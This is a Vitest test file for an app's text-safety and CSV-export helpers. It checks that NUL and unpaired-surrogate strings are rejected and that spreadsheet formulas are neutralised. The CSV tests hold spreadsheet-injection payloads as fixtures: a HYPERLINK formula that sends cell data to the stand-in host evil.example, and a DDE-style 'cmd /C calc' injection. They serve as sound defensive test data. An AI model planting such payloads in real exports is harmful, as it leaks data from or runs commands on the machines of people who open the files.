import { describe, expect, it } from "vitest";
import { z } from "zod";
import { LibraryFileSchema } from "@/lib/exchange/format";
import { parseNotebook } from "@/lib/notebook";
import { parseTemplate } from "@/lib/prompt";
import { toCsv } from "@/lib/sweeps/service";
import type { SweepExportRow } from "@/lib/sweeps/types";
import { csvField, csvRow, NUL_MESSAGE, safeText, SURROGATE_MESSAGE, textProblem, unsafeTextIssues } from "@/lib/text";

const doc = (name: string, text = "Output:") => ({
  formatVersion: 1,
  name,
  query: { blocks: [{ type: "text", text }] },
});

describe("text a stranger may store", () => {
  it("refuses NUL characters and unpaired surrogates, and only those", () => {
    expect(textProblem("plain, émoji 🦩, 中文, \t tabs and\nnewlines")).toBeNull();
    expect(textProblem("a\u0000b")).toBe(NUL_MESSAGE);
    expect(textProblem("lone high \ud83e at the end")).toBe(SURROGATE_MESSAGE);
    expect(textProblem("\ud83e")).toBe(SURROGATE_MESSAGE);
    expect(textProblem("lone low \udda9")).toBe(SURROGATE_MESSAGE);
    expect(textProblem("reversed \udda9\ud83e")).toBe(SURROGATE_MESSAGE);
    expect(textProblem("\ud83e\udda9")).toBeNull(); // a pair: 🦩
  });

  it("finds each bad string (and key) with its path, without recursing on the stack", () => {
    expect(unsafeTextIssues({ name: "ok", tags: ["x", "y\u0000"], nested: { ["k\ud800"]: 1, deep: [{ s: "\udc00" }] } })).toEqual([
      { path: ["tags", 1], message: NUL_MESSAGE },
      { path: ["nested", "k\ud800"], message: `its key ${SURROGATE_MESSAGE}` },
      { path: ["nested", "deep", 0, "s"], message: SURROGATE_MESSAGE },
    ]);
    let deep: unknown = "\u0000";
    for (let i = 0; i < 100_000; i++) deep = [deep];
    expect(unsafeTextIssues(deep)[0]?.path).toHaveLength(100_000);
    expect(unsafeTextIssues(Array.from({ length: 1000 }, () => "\u0000"))).toHaveLength(20);
  });

  it("is one zod check: schemas report the field it is in", () => {
    const body = safeText(z.object({ name: z.string().trim().min(1), document: z.unknown() }));
    const r = body.safeParse({ name: "A\u0000", document: { cells: [{ title: "\ud800" }] } });
    expect(r.success).toBe(false);
    expect(r.error?.issues.map((i) => [i.path, i.message])).toEqual([
      [["name"], NUL_MESSAGE],
      [["document", "cells", 0, "title"], SURROGATE_MESSAGE],
    ]);
    expect(body.safeParse({ name: "Fine 🦩", document: { x: ["y"] } }).success).toBe(true);
  });

  it("guards template and notebook documents and library files", () => {
    const t = parseTemplate(doc("Cap\u0000tions"));
    expect(t.ok ? [] : t.issues).toEqual([{ path: ["name"], message: NUL_MESSAGE }]);
    const text = parseTemplate(doc("Captions", "Output:\ud800"));
    expect(text.ok ? [] : text.issues).toEqual([{ path: ["query", "blocks", 0, "text"], message: SURROGATE_MESSAGE }]);

    // A notebook reports its own strings and its inline templates' once each.
    const nb = parseNotebook({
      formatVersion: 1,
      name: "NB",
      cells: [{ id: "c1", title: "t\u0000", prompt: { kind: "inline", template: doc("Inline\u0000"), bindings: {} }, params: { stop: ["\ud800"] } }],
    });
    expect(nb.ok ? [] : nb.issues).toEqual(
      expect.arrayContaining([
        { path: ["cells", 0, "title"], message: NUL_MESSAGE },
        { path: ["cells", 0, "prompt", "template", "name"], message: NUL_MESSAGE },
        { path: ["cells", 0, "params", "stop", 0], message: SURROGATE_MESSAGE },
      ]),
    );
    expect(nb.ok ? 0 : nb.issues.length).toBe(3);

    const file = {
      format: "flamingo-studio.library",
      formatVersion: 2,
      exportedAt: new Date().toISOString(),
      library: { name: "Lib\u0000", description: "" },
      templates: [],
      notebooks: [],
      assets: [],
    };
    const lib = LibraryFileSchema.safeParse(file);
    expect(lib.error?.issues.map((i) => [i.path, i.message])).toEqual([[["library", "name"], NUL_MESSAGE]]);
    expect(LibraryFileSchema.safeParse({ ...file, library: { name: "Lib", description: "" } }).success).toBe(true);
  });
});

describe("CSV that a spreadsheet cannot run", () => {
  it("prefixes text that would be a formula with ', and quotes per RFC 4180", () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    expect(csvField("+1+cmd|' /C calc'!A0")).toBe("'+1+cmd|' /C calc'!A0");
    expect(csvField("-2+3")).toBe("'-2+3");
    expect(csvField("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(csvField("\t=1")).toBe("'\t=1");
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
    expect(csvField("a, b")).toBe('"a, b"');
    expect(csvField("dax")).toBe("dax");
    expect(csvField("1+1=2")).toBe("1+1=2");
  });

  it("leaves numbers, booleans, empty values and plain numeric text alone", () => {
    expect(csvField(-0.74)).toBe("-0.74");
    expect(csvField(-3)).toBe("-3");
    expect(csvField(true)).toBe("true");
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
    expect(csvField("-0.74")).toBe("-0.74");
    expect(csvField("+12")).toBe("+12");
    expect(csvField("-1e-3")).toBe("-1e-3");
    expect(csvField(["a", "b"])).toBe("a b");
    expect(csvField(["=a", "b"])).toBe("'=a b");
    expect(csvRow(["x", 1, "=y"])).toBe("x,1,'=y");
  });

  it("the sweep export neutralises posted outputs and answers, not its numeric columns", () => {
    const row: SweepExportRow = {
      engine: "flamingo-mini",
      itemId: "i1",
      assetId: "a".repeat(64),
      question: "@who?",
      answer: "-dax",
      shots: 2,
      seed: 0,
      selection: "random",
      output: '=HYPERLINK("http://evil.example","x")',
      correct: false,
      score: -0.74,
      demoItemIds: ["d1", "d2"],
      ms: 12.5,
      error: null,
      promptTokens: null,
      completionTokens: null,
    };
    const [header, line] = toCsv([row]).split("\r\n");
    expect(header).toBe("engine,itemId,assetId,question,answer,shots,seed,selection,output,correct,score,demoItemIds,ms,error,promptTokens,completionTokens");
    expect(line).toBe(`flamingo-mini,i1,${"a".repeat(64)},'@who?,'-dax,2,0,random,"'=HYPERLINK(""http://evil.example"",""x"")",false,-0.74,d1 d2,12.5,,,`);
  });
});
